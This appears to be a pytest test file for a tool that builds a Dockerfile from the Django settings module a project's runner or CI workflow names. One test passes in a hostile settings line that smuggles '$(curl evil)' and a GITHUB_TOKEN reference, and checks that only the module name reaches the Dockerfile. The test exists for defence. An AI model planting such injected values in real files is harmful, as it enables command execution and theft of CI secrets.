"""A Django project that runs its tests with its own runner (wagtailmenus' runtests.py,
django-tasks' manage.py test) names its settings module there and has no pytest-django.
setupbot's collection runs pytest, which imports Django test modules only through pytest-django
and that module: the plan gives both, and the first image collects, where before a repair
added them and cost a second build and a second run of the suite."""

from __future__ import annotations

from bot.compile.plan import make_plan

RUNTESTS = (
    "import os\nfrom django.core.management import execute_from_command_line\n\n"
    "os.environ['DJANGO_SETTINGS_MODULE'] = 'shop.settings.testing'\n"
    "execute_from_command_line(['runtests.py', 'test'])\n"
)
FILES = {
    "setup.py": "from setuptools import setup\nsetup(name='shop', install_requires=['Django>=4.2'])\n",
    "runtests.py": RUNTESTS,
    "shop/__init__.py": "",
    "shop/settings/__init__.py": "",
    "shop/settings/testing.py": "SECRET_KEY = 'x'\n",
    "shop/tests/__init__.py": "",
    "shop/tests/test_views.py": "from django.test import TestCase\n\nclass T(TestCase):\n    def test_x(self):\n        pass\n",
}


def _late_env(plan) -> str:
    """The tested stage of the Dockerfile from the DJANGO_SETTINGS_MODULE line on."""
    text = plan.dockerfile.text
    start = text.index("ENV DJANGO_SETTINGS_MODULE")
    end = text.find("\nFROM ", start)
    return text[start : end if end > 0 else len(text)]


def test_the_settings_the_runner_names_and_pytest_django_are_planned_for_the_tests(write_tree):
    plan = make_plan(write_tree(FILES), available_pythons=["3.11"], resolve=False)
    g = plan.graph
    env = g.nodes["config:env:DJANGO_SETTINGS_MODULE"]
    assert env.attrs["value"] == "shop.settings.testing" and env.attrs["for_tests"]
    assert ("runtests.py", 4) in [(e[0], e[1]) for e in env.evidence]
    assert g.nodes["tool:pytest-django"].action == "tool"
    # after every install step: the Dockerfile's last steps are the variable and the command
    rest = _late_env(plan)
    assert "RUN " not in rest and "CMD " in rest
    assert "runtests.py:4 sets DJANGO_SETTINGS_MODULE to shop.settings.testing" in plan.dockerfile.text


def test_nothing_is_added_where_pytest_django_is_configured(write_tree):
    configured = make_plan(
        write_tree({**FILES, "pytest.ini": "[pytest]\nDJANGO_SETTINGS_MODULE = shop.settings.testing\n"}),
        available_pythons=["3.11"],
        resolve=False,
    )
    assert "config:env:DJANGO_SETTINGS_MODULE" not in configured.graph.nodes


def test_no_test_importing_django_adds_nothing(write_tree):
    plain = dict(FILES, **{"shop/tests/test_views.py": "def test_x():\n    pass\n"})
    plan = make_plan(write_tree(plain), available_pythons=["3.11"], resolve=False)
    assert "config:env:DJANGO_SETTINGS_MODULE" not in plan.graph.nodes
    assert "tool:pytest-django" not in plan.graph.nodes


def test_a_module_the_tree_does_not_hold_is_not_evidence(tmp_path):
    files = dict(FILES, **{"runtests.py": RUNTESTS.replace("shop.settings.testing", "shop.settings.missing")})
    for rel, text in files.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(text)
    plan = make_plan(tmp_path, available_pythons=["3.11"], resolve=False)
    assert "config:env:DJANGO_SETTINGS_MODULE" not in plan.graph.nodes


def test_the_value_is_the_module_path_alone_whatever_the_line_around_it_says(write_tree):
    """The repository writes the line: only the dotted name of a module in its tree reaches the
    Dockerfile's ENV, never what follows it on the line."""
    hostile = RUNTESTS.replace(
        "os.environ['DJANGO_SETTINGS_MODULE'] = 'shop.settings.testing'",
        "os.environ['DJANGO_SETTINGS_MODULE'] = 'shop.settings.testing\\n$(curl evil)' # ${GITHUB_TOKEN}",
    )
    plan = make_plan(write_tree({**FILES, "runtests.py": hostile}), available_pythons=["3.11"], resolve=False)
    assert plan.graph.nodes["config:env:DJANGO_SETTINGS_MODULE"].attrs["value"] == "shop.settings.testing"
    env_lines = [ln for ln in plan.dockerfile.text.splitlines() if ln.startswith("ENV DJANGO")]
    assert env_lines == ["ENV DJANGO_SETTINGS_MODULE=shop.settings.testing"]
    assert "curl" not in plan.dockerfile.text and "GITHUB_TOKEN" not in plan.dockerfile.text


def test_a_workflow_that_passes_the_settings_names_them(write_tree):
    """No runner file names the module; the CI's test step does (``--settings``). The scan
    finds the workflow among the files it listed already."""
    files = {k: v for k, v in FILES.items() if k != "runtests.py"}
    files[".github/workflows/tests.yml"] = (
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: django-admin test --settings=shop.settings.testing\n"
    )
    plan = make_plan(write_tree(files), available_pythons=["3.11"], resolve=False)
    env = plan.graph.nodes["config:env:DJANGO_SETTINGS_MODULE"]
    assert env.attrs["value"] == "shop.settings.testing"
    assert (".github/workflows/tests.yml", 6) in [(e[0], e[1]) for e in env.evidence]
